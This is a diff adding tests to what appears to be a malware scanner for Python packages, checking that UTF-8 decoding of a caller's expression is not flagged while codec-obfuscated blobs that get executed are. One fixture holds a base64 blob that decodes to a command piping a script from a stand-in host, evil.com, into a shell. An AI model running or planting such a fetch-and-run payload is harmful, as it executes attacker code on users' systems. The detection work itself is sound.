@@ -5319,3 +5319,41 @@ def test_code_in_a_nested_archive_the_package_puts_on_its_path_keeps_its_weight(
     result = analyze(artifact)
     assert severities(result, "intent.decode-execute") == {"high"}
     assert result.verdict in FLAGGED
+
+
+# -- bytes read as text by a text codec are not a hidden payload ---------------------------------
+
+EXPRESSION = """
+    import ast
+    import codecs
+
+    class Expression:
+        def __init__(self, definition):
+            if not isinstance(definition, str):
+                definition = codecs.decode(definition, "utf8")
+            tree = ast.parse(definition.strip(), mode="eval")
+            self.code = compile(tree, "<string>", "eval")
+
+        def __call__(self, **values):
+            return eval(self.code, {"__builtins__": {}}, values)
+"""
+
+
+def test_bytes_decoded_by_a_text_codec_are_not_hidden_code():
+    """binary-refinery: an expression handed over as bytes is read as UTF-8 text, parsed and
+    compiled: the caller's expression, nothing the package hid."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/expr.py": EXPRESSION}
+    result = scan(files)
+    assert not found(result, "intent.decode-execute")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize("codec", ["rot13", "base64", "hex", "zlib", "bz2", "utf-7", "utf-16"])
+def test_a_blob_decoded_by_a_codec_that_hides_text_and_run_is_still_decode_execute(codec):
+    hidden = f'codecs.decode(BLOB, "{codec}")'
+    module = textwrap.dedent(EXPRESSION).replace('codecs.decode(definition, "utf8")', hidden)
+    blob = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cHM6Ly9ldmlsLmNvbS9zaCB8IHNoIik="
+    module += f"\nBLOB = b'{blob}'\n"
+    module += "Expression(b'')\n"
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/expr.py": module}
+    assert found(scan(files), "intent.decode-execute")
